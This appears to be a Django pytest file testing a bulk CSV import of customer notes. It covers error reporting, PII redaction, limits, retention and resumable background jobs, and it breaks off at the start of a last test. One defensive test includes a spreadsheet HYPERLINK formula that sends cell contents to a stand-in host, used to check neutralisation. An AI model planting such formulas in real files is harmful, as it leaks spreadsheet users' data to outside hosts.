"""Bulk import: per-row report, idempotency, whole-file problems, limits, chunks and resuming,
redaction of everything echoed, retention, and the leads' upload page."""

from __future__ import annotations

import csv
import io
import os
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import InterfaceError, OperationalError
from django.test import Client
from django.utils import timezone

from tests.celery_worker import running_worker, wait_for
from tests.factories import UserFactory
from voc import tasks
from voc.models import AuditEntry, ImportJob, Insight
from voc.notes import import_jobs, imports, services

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    """Each test keeps its uploads and error files in its own folder, to see what is left."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def files_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


GOOD = """kind,text,channel,external_id,occurred_at,language,customer_abroad,caused_by_us,lonely,agent
need,Wants a branch in Lugo,phone,E-1,2026-11-02T10:00,es,no,no,no,lucia
thanks,Called to say thank you,phone,,2026-11-03,,,,yes,lucia
"""


def write(tmp_path: Path, text: str, name: str = "notes.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def run(path: Path, *args: str) -> str:
    out = io.StringIO()
    call_command("import_notes", str(path), *args, stdout=out)
    return out.getvalue()


def test_a_good_file_imports_every_row(tmp_path, agent, settings):
    settings.TIME_ZONE = "Europe/Madrid"
    output = run(write(tmp_path, GOOD))
    assert "2 rows: 2 imported, 0 already there, 0 with errors." in output
    branch = Insight.objects.get(external_id="E-1")
    assert branch.agent == agent and branch.language == "es" and branch.source == "csv"
    thanks = Insight.objects.get(kind="thanks")
    assert thanks.lonely and thanks.external_id.startswith("row:")


def test_importing_the_same_file_twice_stores_nothing_new(tmp_path, agent):
    path = write(tmp_path, GOOD)
    run(path)
    output = run(path)
    assert "2 rows: 0 imported, 2 already there, 0 with errors." in output
    assert Insight.objects.count() == 2


def test_invalid_rows_are_reported_with_row_field_and_reason_and_the_rest_imported(tmp_path, agent):
    text = (
        GOOD
        + "rant,Bad kind,phone,E-3,,,,,,lucia\nneed,,phone,E-4,,,,,,lucia\nneed,Unknown agent,phone,E-5,,,,,,nobody\n"
    )
    text += "need,Bad flag,phone,E-6,,,maybe,,,lucia\nneed,Bad date,phone,E-7,23/11/2026,,,,,lucia\n"
    output = run(write(tmp_path, text))
    assert "row 4: kind: Unknown kind rant" in output
    assert "row 5: text: Write what the customer said." in output
    assert "row 6: agent: No active person has this username." in output
    assert "row 7: customer_abroad: Use yes or no." in output
    assert "row 8: occurred_at: Use a date like 2026-11-23" in output
    assert "7 rows: 2 imported, 0 already there, 5 with errors." in output


def test_the_rows_to_fix_can_be_fixed_and_imported_again(tmp_path, agent):
    errors = tmp_path / "errors.csv"
    run(write(tmp_path, GOOD + "rant,Bad kind,phone,E-3,,,,,,lucia\n"), "--errors", str(errors))
    rows = list(csv.DictReader(errors.open(encoding="utf-8-sig")))
    assert len(rows) == 1 and rows[0]["row"] == "4" and rows[0]["error"].startswith("kind:")
    fixed = errors.read_text(encoding="utf-8-sig").replace(",rant,", ",frustration,")
    output = run(write(tmp_path, fixed, "fixed.csv"))
    assert "1 rows: 1 imported" in output
    assert Insight.objects.filter(external_id="E-3", kind="frustration").exists()


def test_rows_without_an_agent_go_to_the_agent_named_on_the_command_line(tmp_path, agent):
    output = run(write(tmp_path, "kind,text,channel\nlove,Loves the app,chat\n"), "--agent", "lucia")
    assert "1 imported" in output and Insight.objects.get().agent == agent
    nobody = run(write(tmp_path, "kind,text,channel\nlove,Loves it,chat\n", "b.csv"))
    assert "row 2: agent: Say who heard it" in nobody and Insight.objects.count() == 1


@pytest.mark.parametrize(
    ("content", "encoding", "message"),
    [
        ("", "utf-8", "The file is empty"),
        ("kind,text,channel\n", "utf-8", "has a header but no notes"),
        ("kind,text\nneed,Hi\n", "utf-8", "Missing columns: channel"),
        ("kind,text,channel,mood\nneed,Hi,phone,happy\n", "utf-8", "Unknown columns: mood"),
        ("kind,text,channel,text\nneed,Hi,phone,Ho\n", "utf-8", "Columns named twice: text"),
        ("\n\n", "utf-8", "The file is empty"),
        # No header at all: the first row of data is taken for one, and none of it is echoed.
        ("need,Call 612345678,phone\n", "utf-8", "Missing columns: kind, text, channel"),
    ],
)
def test_whole_file_problems_get_a_clear_message(tmp_path, agent, content, encoding, message):
    with pytest.raises(CommandError, match=message):
        run(write(tmp_path, content, encoding=encoding))
    assert Insight.objects.count() == 0


def test_a_row_with_more_values_than_columns_is_reported(tmp_path, agent):
    output = run(write(tmp_path, "kind,text,channel,agent\nneed,Hi,phone,lucia,extra\n"))
    assert "row 2: row: This row has more values than the header has columns." in output


def test_a_missing_file_is_a_clear_error(tmp_path):
    with pytest.raises(CommandError, match="No such file"):
        run(tmp_path / "nope.csv")


def test_a_lead_may_attribute_rows_only_to_people_at_their_sites(agent, other_site_agent, lead):
    text = "kind,text,channel,agent\nneed,Mine,phone,lucia\nneed,Theirs,phone,amy\nneed,Lead's own,phone,\n"
    report = imports.import_notes(stream=io.BytesIO(text.encode()), importer=lead, default_agent=lead)
    assert report.created == 2 and report.invalid == 1
    assert report.problems[0].field == "agent" and "works at a site you lead" in report.problems[0].reason


def test_the_upload_page_queues_the_import_after_commit(client_for, agent, django_capture_on_commit_callbacks):
    client = client_for("lead")
    upload = SimpleUploadedFile("notes.csv", GOOD.encode(), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post("/notes/import/", {"file": upload})
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/notes/import/{job.pk}/"
    assert job.status == "queued" and len(callbacks) == 1
    import_jobs.run_import_job(job.pk)
    import_jobs.run_import_job(job.pk)  # a redelivered task does nothing more
    job.refresh_from_db()
    assert (job.status, job.rows, job.created, job.invalid) == ("done", 2, 2, 0)
    assert Insight.objects.count() == 2
    page = client.get(f"/notes/import/{job.pk}/").content.decode()
    assert "Notes imported" in page


def test_the_upload_page_offers_the_rows_to_fix(client_for, agent):
    client = client_for("lead")
    upload = SimpleUploadedFile("notes.csv", (GOOD + "rant,Bad,phone,E-9,,,,,,lucia\n").encode())
    client.post("/notes/import/", {"file": upload})
    job = ImportJob.objects.get()
    import_jobs.run_import_job(job.pk)
    page = client.get(f"/notes/import/{job.pk}/").content.decode()
    assert "Rows to fix" in page and "Unknown kind rant" in page
    download = client.get(f"/notes/import/{job.pk}/errors.csv")
    assert b"rant,Bad" in b"".join(download.streaming_content)


def test_an_empty_upload_is_refused_on_the_form(client_for):
    response = client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("e.csv", b"")})
    assert response.status_code == 200 and ImportJob.objects.count() == 0
    assert "empty" in response.content.decode()


def test_an_import_is_visible_to_its_uploader_only(client_for, lead, manchester):
    job = ImportJob.objects.create(uploaded_by=lead, original_name="x.csv")
    other_lead = UserFactory(username="sarah", role="lead", site=manchester)
    assert client_for("lead").get(f"/notes/import/{job.pk}/").status_code == 200
    other = Client()
    other.force_login(other_lead)
    assert other.get(f"/notes/import/{job.pk}/").status_code == 404
    for role in ["agent", "hq", "executive", "admin"]:
        assert client_for(role).get(f"/notes/import/{job.pk}/").status_code == 403


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_an_upload_is_imported_by_a_real_worker(client_for, agent, django_capture_on_commit_callbacks):
    client = client_for("lead")
    with django_capture_on_commit_callbacks(execute=False):
        client.post("/notes/import/", {"file": SimpleUploadedFile("notes.csv", GOOD.encode())})
    job = ImportJob.objects.get()
    with running_worker() as queue:
        tasks.run_import.apply_async(args=[job.pk], queue=queue)
        assert wait_for(lambda: ImportJob.objects.get(pk=job.pk).status == "done")
    assert Insight.objects.count() == 2


# --- a bad cell is a bad row, always -------------------------------------------------------------

HEAD = "kind,text,channel,external_id,occurred_at,agent\n"


def test_an_impossible_date_is_reported_as_a_bad_row_and_the_import_goes_on(tmp_path, agent):
    text = HEAD + "need,Before,phone,D-1,,lucia\nneed,Bad day,phone,D-2,2026-13-45,lucia\nneed,After,phone,D-3,,lucia\n"
    output = run(write(tmp_path, text))
    assert "row 3: occurred_at: This is not a real date" in output
    assert "3 rows: 2 imported, 0 already there, 1 with errors." in output
    assert set(Insight.objects.values_list("external_id", flat=True)) == {"D-1", "D-3"}


def test_an_uploaded_file_with_an_impossible_date_finishes_with_that_row_reported(client_for, agent):
    body = HEAD + "need,Bad day,phone,D-2,2026-13-45T10:00,lucia\nneed,Fine,phone,D-3,,lucia\n"
    client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("d.csv", body.encode())})
    job = import_jobs.run_import_job(ImportJob.objects.get().pk)
    assert (job.status, job.created, job.invalid, job.message) == ("done", 1, 1, "")
    assert [(p["row"], p["field"]) for p in job.problems] == [(2, "occurred_at")]
    assert "not a real date" in job.problems[0]["reason"]


def test_a_workers_report_is_written_in_the_uploaders_language(client_for, lead, agent):
    lead.language = "es"
    lead.save(update_fields=["language"])
    body = HEAD + "need,Bad day,phone,D-2,2026-13-45T10:00,lucia\n"
    client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("d.csv", body.encode())})
    job = import_jobs.run_import_job(ImportJob.objects.get().pk)
    assert "Esta fecha no existe" in job.problems[0]["reason"]
    assert "Esta fecha no existe" in job.error_file.open("rb").read().decode()


@pytest.mark.parametrize(
    ("row", "column", "reason"),
    [
        (b"need,Has a \x00 in it,phone,B-1,,lucia", "text", "null character"),
        (b"need,Fine text,phone,B-1,,luc\x00ia", "agent", "null character"),
        (b"need,Caf\xe9 latin-1 in UTF-8: a\xc3\xb1o \xc3\xa9l,phone,B-1,,lucia", "text", "not UTF-8"),
        (b"need," + b"x" * 200_000 + b",phone,B-1,,lucia", "row", "not valid CSV"),
        (b"need," + b"y" * 20_000 + b",phone,B-1,,lucia", "text", "far too long"),
        (b"need,Old,phone,B-1,0001-01-01T00:00+01:00,lucia", "occurred_at", "from the year 2000"),
        (b"need,Odd,phone,B-1,2026-02-30,lucia", "occurred_at", "not a real date"),
        (b"need,Long id,phone," + b"i" * 150 + b",,lucia", "external_id", "longer than 100"),
        (b"rant,Wrong kind,phone,B-1,,lucia", "kind", "Unknown kind"),
        (b"need,Wrong channel,pigeon,B-1,,lucia", "channel", "Unknown channel"),
        (b"need,Too many,phone,B-1,,lucia,extra", "row", "more values than the header"),
    ],
)
def test_every_kind_of_bad_cell_is_reported_on_its_row_and_the_other_rows_are_imported(
    agent, lead, row, column, reason
):
    body = HEAD.encode() + b"need,Before,phone,G-1,,lucia\n" + row + b"\nneed,After,phone,G-2,,lucia\n"
    report = imports.import_notes(stream=io.BytesIO(body), importer=lead, default_agent=lead)
    assert (report.rows, report.created, report.invalid, report.fatal) == (3, 2, 1, "")
    assert (report.problems[0].row, report.problems[0].field) == (3, column)
    assert reason in report.problems[0].reason
    assert "unexpected" not in report.problems[0].reason


def test_a_row_that_raises_something_unforeseen_is_still_just_a_bad_row(agent, lead, monkeypatch):
    real = imports.services.build_note

    def build(**fields):
        if fields["external_id"] == "U-2":
            raise OverflowError("date value out of range")
        return real(**fields)

    monkeypatch.setattr(imports.services, "build_note", build)
    body = HEAD + "need,One,phone,U-1,,lucia\nneed,Two,phone,U-2,,lucia\nneed,Three,phone,U-3,,lucia\n"
    report = imports.import_notes(stream=io.BytesIO(body.encode()), importer=lead, default_agent=lead)
    assert (report.created, report.invalid) == (2, 1)
    assert report.problems[0].row == 3 and "could not be read" in report.problems[0].reason


def test_a_file_with_a_byte_order_mark_imports(tmp_path, agent):
    output = run(write(tmp_path, "\ufeff" + GOOD))
    assert "2 rows: 2 imported" in output


def test_a_semicolon_separated_file_as_spanish_excel_saves_it_imports(tmp_path, agent):
    text = "kind;text;channel;external_id;agent\nneed;Quiere una oficina, en Lugo;phone;S-1;lucia\n"
    output = run(write(tmp_path, text))
    assert "1 rows: 1 imported" in output
    assert Insight.objects.get(external_id="S-1").text == "Quiere una oficina, en Lugo"


def test_rows_with_no_value_at_all_are_skipped_silently(tmp_path, agent):
    output = run(write(tmp_path, GOOD + ",,,,,,,,,\n\n"))
    assert "2 rows: 2 imported, 0 already there, 0 with errors." in output


# --- nothing echoes a raw value ------------------------------------------------------------------

CANARY_EMAIL = "zq7canary.person@example.org"
CANARY_PHONE = "612 345 678"


def test_messages_and_the_rows_to_fix_carry_redacted_values_only(tmp_path, agent):
    text = HEAD + f"{CANARY_EMAIL},Call me on {CANARY_PHONE},phone,R-1,,lucia\n"
    text += f"need,Fine,phone,R-2,{CANARY_PHONE},lucia\n"
    errors = tmp_path / "errors.csv"
    output = run(write(tmp_path, text), "--errors", str(errors))
    written = errors.read_text(encoding="utf-8-sig")
    for echoed in (output, written):
        assert "zq7canary" not in echoed and "345" not in echoed
    assert "row 2: kind: Unknown kind [EMAIL]" in output
    assert "Call me on [PHONE]" in written


def test_the_status_page_and_the_job_never_show_a_raw_cell(client_for, agent):
    body = HEAD + f"{CANARY_EMAIL},Call me on {CANARY_PHONE},phone,R-1,,lucia\nmood,x,phone,R-2,,{CANARY_EMAIL}\n"
    client = client_for("lead")
    client.post("/notes/import/", {"file": SimpleUploadedFile("r.csv", body.encode())})
    job = import_jobs.run_import_job(ImportJob.objects.get().pk)
    page = client.get(f"/notes/import/{job.pk}/").content.decode()
    download = b"".join(client.get(f"/notes/import/{job.pk}/errors.csv").streaming_content).decode()
    for shown in (page, download, job.message, str(job.problems)):
        assert "zq7canary" not in shown and "345" not in shown
    assert "[EMAIL]" in download and job.invalid == 2


def test_an_unknown_header_is_echoed_redacted_and_short(tmp_path):
    with pytest.raises(CommandError) as caught:
        run(write(tmp_path, f"kind,text,channel,{CANARY_EMAIL} {'w' * 80}\nneed,Hi,phone,x\n"))
    assert "Unknown columns: [EMAIL]" in str(caught.value) and "zq7canary" not in str(caught.value)
    assert "w" * 40 not in str(caught.value)


def test_the_import_does_not_confirm_that_a_username_exists_at_another_site(agent, other_site_agent, lead):
    body = "kind,text,channel,agent\nneed,One,phone,amy\nneed,Two,phone,zz-no-such-person\n"
    report = imports.import_notes(stream=io.BytesIO(body.encode()), importer=lead, default_agent=lead)
    first, second = report.problems
    assert first.reason == second.reason and first.field == second.field == "agent"
    assert "amy" not in first.reason and report.created == 0


def test_inactive_people_at_the_leads_site_are_refused_with_the_same_message(agent, lead):
    UserFactory(username="gone", role="agent", site=agent.site, is_active=False)
    body = "kind,text,channel,agent\nneed,One,phone,gone\nneed,Two,phone,nobody-at-all\n"
    report = imports.import_notes(stream=io.BytesIO(body.encode()), importer=lead, default_agent=lead)
    assert report.problems[0].reason == report.problems[1].reason


# --- spreadsheet formulas --------------------------------------------------------------------------


def test_formulas_in_the_rows_to_fix_are_neutralised_and_survive_a_round_trip(tmp_path, agent):
    errors = tmp_path / "errors.csv"
    text = HEAD + 'rant,"=HYPERLINK(""http://x.example/?""&A1)",phone,+F-1,,lucia\n'
    run(write(tmp_path, text), "--errors", str(errors))
    row = next(csv.DictReader(errors.open(encoding="utf-8-sig")))
    assert row["text"] == '\'=HYPERLINK("http://x.example/?"&A1)' and row["external_id"] == "'+F-1"
    fixed = errors.read_text(encoding="utf-8-sig").replace(",rant,", ",need,")
    assert "1 imported" in run(write(tmp_path, fixed, "fixed.csv"))
    note = Insight.objects.get()
    assert note.text.startswith("=HYPERLINK") and note.external_id == "+F-1"


# --- limits ------------------------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_on_the_form_and_nothing_is_stored(client_for, settings, _media):
    settings.VOC_IMPORT_MAX_BYTES = 100
    body = GOOD + "need,Padding row to pass one hundred bytes,phone,E-8,,,,,,lucia\n"
    response = client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("big.csv", body.encode())})
    assert response.status_code == 200 and "the limit is 100" in response.content.decode()
    assert ImportJob.objects.count() == 0 and files_under(_media) == []


def test_a_file_over_the_row_limit_is_refused_on_the_form_and_nothing_is_stored(client_for, settings, _media):
    settings.VOC_IMPORT_MAX_ROWS = 1
    response = client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("many.csv", GOOD.encode())})
    assert response.status_code == 200 and "more than 1 rows" in response.content.decode()
    assert ImportJob.objects.count() == 0 and files_under(_media) == []


def test_the_upload_page_states_the_limits_and_the_retention(client_for, settings):
    settings.VOC_IMPORT_MAX_BYTES, settings.VOC_IMPORT_MAX_ROWS, settings.VOC_IMPORT_RETENTION_DAYS = 2048, 77, 9
    page = client_for("lead").get("/notes/import/").content.decode()
    assert "At most 2.0\xa0KB and 77 rows per file" in page and "is kept for 9 days" in page


def test_a_file_that_is_not_text_is_refused_on_the_form(client_for, agent, _media):
    body = b"PK\x03\x04\x00\x00\x00\x00" * 50
    response = client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("l.csv", body)})
    assert "not a text file" in response.content.decode() and ImportJob.objects.count() == 0


def test_the_command_refuses_files_over_the_limits(tmp_path, agent, settings):
    path = write(tmp_path, GOOD)
    settings.VOC_IMPORT_MAX_ROWS = 1
    with pytest.raises(CommandError, match="more than 1 rows"):
        run(path)
    settings.VOC_IMPORT_MAX_ROWS, settings.VOC_IMPORT_MAX_BYTES = 10, 50
    with pytest.raises(CommandError, match="the limit is 50"):
        run(path)
    assert Insight.objects.count() == 0


def test_the_rows_to_fix_are_capped_with_a_line_saying_how_many_more(tmp_path, agent, monkeypatch):
    monkeypatch.setattr(imports, "MAX_ERROR_ROWS", 3)
    errors = tmp_path / "errors.csv"
    text = HEAD + "".join(f"rant,Bad {i},phone,C-{i},,lucia\n" for i in range(5))
    output = run(write(tmp_path, text), "--errors", str(errors))
    assert "5 with errors" in output
    rows = list(csv.DictReader(errors.open(encoding="utf-8-sig")))
    assert [r["row"] for r in rows] == ["2", "3", "4", ""]
    assert rows[-1]["error"] == "2 more rows with errors are not listed; fix these and import again to see them."
    again = run(errors, "--agent", "lucia")  # the last line has no values: skipped, not an error
    assert "3 rows: 0 imported, 0 already there, 3 with errors." in again


# --- the raw upload lives only while its job runs; retention ----------------------------------------


def upload(client: Client, body: str, name: str = "notes.csv") -> ImportJob:
    client.post("/notes/import/", {"file": SimpleUploadedFile(name, body.encode())})
    return ImportJob.objects.latest("pk")


def test_the_raw_upload_is_deleted_when_the_job_is_done(client_for, agent, _media):
    job = upload(client_for("lead"), GOOD + "rant,Bad,phone,E-9,,,,,,lucia\n")
    kept = Path(job.file.path)
    assert kept.exists()
    job = import_jobs.run_import_job(job.pk)
    assert job.status == "done" and not job.file and not kept.exists()
    assert files_under(_media) == [Path(job.error_file.path)]


def test_the_raw_upload_is_deleted_when_the_job_fails(client_for, agent, monkeypatch, _media):
    job = upload(client_for("lead"), GOOD)

    def broken(**kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(imports, "import_notes", broken)
    with pytest.raises(RuntimeError):
        import_jobs.run_import_job(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and not job.file and files_under(_media) == []
    assert "after row 0" in job.message and "disk on fire" not in job.message


def test_a_job_without_errors_keeps_no_error_file(client_for, agent, _media):
    job = import_jobs.run_import_job(upload(client_for("lead"), GOOD).pk)
    assert job.status == "done" and not job.error_file and files_under(_media) == []


def test_expired_import_files_are_deleted_and_a_second_run_deletes_nothing(client_for, agent, settings, _media):
    settings.VOC_IMPORT_RETENTION_DAYS = 30
    client = client_for("lead")
    old = import_jobs.run_import_job(upload(client, GOOD + "rant,Bad,phone,E-9,,,,,,lucia\n").pk)
    recent = import_jobs.run_import_job(upload(client, GOOD + "rant,Bad,phone,E-10,,,,,,lucia\n", "b.csv").pk)
    abandoned = upload(client, GOOD, "c.csv")
    long_ago = timezone.now() - timedelta(days=31)
    ImportJob.objects.filter(pk=old.pk).update(finished_at=long_ago)
    ImportJob.objects.filter(pk=abandoned.pk).update(created_at=long_ago)
    orphan_old = _media / "imports" / "2025" / "01" / "upload-forgotten.csv"
    orphan_new = _media / "imports" / "2026" / "12" / "upload-just-now.csv"
    for orphan in (orphan_old, orphan_new):
        orphan.parent.mkdir(parents=True, exist_ok=True)
        orphan.write_text("kind,text,channel\n")
    os.utime(orphan_old, (long_ago.timestamp(), long_ago.timestamp()))
    old_errors, abandoned_upload = Path(old.error_file.path), Path(abandoned.file.path)

    assert import_jobs.purge_expired_imports() == {"error_files": 1, "uploads": 1, "orphans": 1}
    assert import_jobs.purge_expired_imports() == {"error_files": 0, "uploads": 0, "orphans": 0}

    assert not old_errors.exists() and not abandoned_upload.exists() and not orphan_old.exists()
    assert orphan_new.exists() and Path(ImportJob.objects.get(pk=recent.pk).error_file.path).exists()
    old.refresh_from_db()
    abandoned.refresh_from_db()
    assert not old.error_file and old.created == 2  # the counts stay
    assert abandoned.status == "failed" and not abandoned.file
    assert client.get(f"/notes/import/{old.pk}/errors.csv").status_code == 404
    assert "has been deleted" in client.get(f"/notes/import/{old.pk}/").content.decode()


def test_the_import_housekeeping_runs_hourly_by_default(settings):
    schedules = {spec["task"]: spec["crontab"] for spec in settings.VOC_DEFAULT_SCHEDULES.values()}
    assert schedules["voc.tasks.import_housekeeping"] == "20 * * * *"
    assert tasks.import_housekeeping.name == "voc.tasks.import_housekeeping"


# --- chunks that each commit; resuming ---------------------------------------------------------------


class Killed(BaseException):
    """What a worker killed mid-chunk looks like from inside: nothing after it runs."""


def test_a_job_killed_mid_way_resumes_after_its_last_committed_chunk_without_duplicates(
    client_for, agent, monkeypatch, _media
):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    body = HEAD + "need,One,phone,K-1,,lucia\nrant,Bad one,phone,K-2,,lucia\n"  # chunk 1 (rows 2-3)
    body += "rant,Bad two,phone,K-3,,lucia\nneed,No id four,phone,,,lucia\n"  # chunk 2 (rows 4-5)
    body += "need,No id five,phone,,,lucia\nneed,Six,phone,K-6,,lucia\n"  # chunk 3 (rows 6-7)
    job = upload(client_for("lead"), body)
    real = imports._build
    crash = {"armed": True}

    def build(values, key, resolver):
        if crash["armed"] and values["text"] == "No id four":
            raise Killed
        return real(values, key, resolver)

    monkeypatch.setattr(imports, "_build", build)
    with pytest.raises(Killed):
        import_jobs.run_import_job(job.pk)
    job.refresh_from_db()
    assert (job.status, job.last_row, job.rows, job.created, job.invalid) == ("running", 3, 2, 1, 1)
    assert Insight.objects.count() == 1 and job.file
    page = client_for("lead").get(f"/notes/import/{job.pk}/").content.decode()
    assert "2 rows read so far." in page

    crash["armed"] = False
    assert import_jobs.run_import_job(job.pk).status == "running"  # its worker may still be alive
    ImportJob.objects.filter(pk=job.pk).update(progress_at=timezone.now() - timedelta(hours=1))
    job = import_jobs.run_import_job(job.pk)
    assert (job.status, job.rows, job.created, job.duplicates, job.invalid) == ("done", 6, 4, 0, 2)
    assert Insight.objects.count() == 4 and not job.file
    with open(job.error_file.path, encoding="utf-8-sig") as listed:
        rows = [r["row"] for r in csv.DictReader(listed)]
    assert rows == ["3", "4"]  # the bad row of the killed chunk is listed once


def test_a_long_import_hands_over_to_a_new_task_after_its_time_budget(
    client_for, agent, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    body = HEAD + "".join(f"need,Row {i},phone,T-{i},,lucia\n" for i in range(5))
    job = upload(client_for("lead"), body)
    runs = 0
    while job.status != "done":
        with django_capture_on_commit_callbacks(execute=False) as queued:
            job = import_jobs.run_import_job(job.pk, time_budget=0)
        runs += 1
        handed_over = [c for c in queued if "run_import" in repr(c)]
        assert (job.status, len(handed_over)) in {("done", 0), ("queued", 1)}
    assert runs == 3 and (job.rows, job.created, job.duplicates) == (5, 5, 0)
    assert AuditEntry.objects.filter(action="notes.imported").count() == 1


def test_stalled_imports_are_queued_again_by_the_housekeeping(client_for, agent, django_capture_on_commit_callbacks):
    job = upload(client_for("lead"), GOOD)
    assert import_jobs.resume_stalled_imports() == 0
    ImportJob.objects.filter(pk=job.pk).update(status="running", progress_at=timezone.now() - timedelta(hours=1))
    with django_capture_on_commit_callbacks(execute=False) as queued:
        assert import_jobs.resume_stalled_imports() == 1
    assert len(queued) == 1
    assert import_jobs.run_import_job(job.pk).status == "done"


# --- who may see what ----------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["agent", "hq", "executive"])
def test_only_leads_may_upload(client_for, role, _media):
    client = client_for(role)
    assert client.get("/notes/import/").status_code == 403
    response = client.post("/notes/import/", {"file": SimpleUploadedFile("n.csv", GOOD.encode())})
    assert response.status_code == 403 and ImportJob.objects.count() == 0 and files_under(_media) == []


def test_another_sites_lead_sees_neither_the_status_nor_the_rows_to_fix(client_for, agent, manchester):
    job = import_jobs.run_import_job(upload(client_for("lead"), GOOD + "rant,Bad,phone,E-9,,,,,,lucia\n").pk)
    assert job.error_file
    other = Client()
    other.force_login(UserFactory(username="sarah", role="lead", site=manchester))
    assert other.get(f"/notes/import/{job.pk}/").status_code == 404
    assert other.get(f"/notes/import/{job.pk}/errors.csv").status_code == 404
    for role in ["agent", "hq", "executive"]:
        assert client_for(role).get(f"/notes/import/{job.pk}/errors.csv").status_code == 403


def test_an_upload_spooled_to_a_temporary_file_is_checked_and_imported(client_for, agent, settings):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10  # large uploads reach the view as temporary files
    job = import_jobs.run_import_job(upload(client_for("lead"), GOOD).pk)
    assert (job.status, job.created) == ("done", 2)


def test_a_chunk_caught_by_the_soft_time_limit_is_undone_and_the_job_queued_again(
    client_for, agent, monkeypatch, django_capture_on_commit_callbacks
):
    from celery.exceptions import SoftTimeLimitExceeded

    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    job = upload(client_for("lead"), HEAD + "".join(f"need,Row {i},phone,L-{i},,lucia\n" for i in range(4)))
    real = imports._build

    def build(values, key, resolver):
        if values["external_id"] == "L-3":
            raise SoftTimeLimitExceeded
        return real(values, key, resolver)

    monkeypatch.setattr(imports, "_build", build)
    with django_capture_on_commit_callbacks(execute=False) as queued:
        job = import_jobs.run_import_job(job.pk)
    assert (job.status, job.last_row, job.created) == ("queued", 3, 2) and job.file
    assert [c for c in queued if "run_import" in repr(c)]
    monkeypatch.setattr(imports, "_build", real)
    job = import_jobs.run_import_job(job.pk)
    assert (job.status, job.created, job.duplicates) == ("done", 4, 0) and Insight.objects.count() == 4


def listed_rows(job: ImportJob) -> list[str]:
    with open(job.error_file.path, encoding="utf-8-sig") as listed:
        return [r["row"] for r in csv.DictReader(listed)]


def fault_on_second_chunk(monkeypatch, fault: type[Exception]) -> list[object]:
    """Raise ``fault`` in the second chunk's transaction, after its rows are read, as a dropped
    connection or a full disk would."""
    real = services.announce_notes
    calls: list[object] = []

    def announce(note_ids):
        calls.append(note_ids)
        if len(calls) == 2:
            raise fault("server closed the connection unexpectedly Kv4transient")
        real(note_ids)

    monkeypatch.setattr(services, "announce_notes", announce)
    return calls


TRANSIENT_BODY = HEAD + "need,One,phone,F-1,,lucia\nrant,Bad one,phone,F-2,,lucia\n"  # chunk 1 (rows 2-3)
TRANSIENT_BODY += "rant,Bad two,phone,F-3,,lucia\nneed,Four,phone,F-4,,lucia\n"  # chunk 2 (rows 4-5)
TRANSIENT_BODY += "need,Five,phone,F-5,,lucia\n"  # chunk 3 (row 6)


@pytest.mark.parametrize("fault", [OperationalError, InterfaceError, OSError])
def test_a_transient_fault_keeps_the_job_and_its_upload_for_a_retry_straight_after(
    client_for, agent, monkeypatch, django_capture_on_commit_callbacks, fault
):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    job = upload(client_for("lead"), TRANSIENT_BODY)
    fault_on_second_chunk(monkeypatch, fault)
    with django_capture_on_commit_callbacks(execute=False), pytest.raises(fault):
        import_jobs.run_import_job(job.pk)
    job.refresh_from_db()
    assert (job.status, job.last_row, job.created, job.invalid) == ("queued", 3, 1, 1)
    assert job.finished_at is None and Path(job.file.path).exists() and "Kv4transient" not in job.message
    assert os.path.getsize(job.error_file.path) == job.error_file_size and listed_rows(job) == ["3"]

    monkeypatch.undo()
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    job = import_jobs.run_import_job(job.pk)  # the task's retry, seconds later: no stall to wait out
    assert (job.status, job.rows, job.created, job.duplicates, job.invalid) == ("done", 5, 3, 0, 2)
    assert Insight.objects.count() == 3 and not job.file and listed_rows(job) == ["3", "4"]
    assert AuditEntry.objects.filter(action="notes.imported").count() == 1


def test_the_import_task_retries_transient_faults():
    assert {OperationalError, InterfaceError, OSError} <= set(tasks.run_import.autoretry_for)


def test_if_the_database_is_still_down_the_job_keeps_its_upload_and_resumes_once_stalled(
    client_for, agent, monkeypatch
):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    job = upload(client_for("lead"), TRANSIENT_BODY)
    calls = fault_on_second_chunk(monkeypatch, OperationalError)
    real_hold = import_jobs.Claim.hold

    def hold(claim):
        if len(calls) >= 2:  # after the fault: the release cannot reach the database either
            raise InterfaceError("connection already closed")
        real_hold(claim)

    monkeypatch.setattr(import_jobs.Claim, "hold", hold)
    with pytest.raises(OperationalError):  # the fault itself, not the failed release
        import_jobs.run_import_job(job.pk)
    job.refresh_from_db()
    assert (job.status, job.last_row) == ("running", 3) and Path(job.file.path).exists()

    monkeypatch.undo()
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    ImportJob.objects.filter(pk=job.pk).update(progress_at=timezone.now() - timedelta(hours=1))
    job = import_jobs.run_import_job(job.pk)
    assert (job.status, job.created, job.invalid) == ("done", 3, 2) and listed_rows(job) == ["3", "4"]


def test_a_worker_whose_job_was_taken_over_writes_nothing_more(client_for, agent, monkeypatch):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
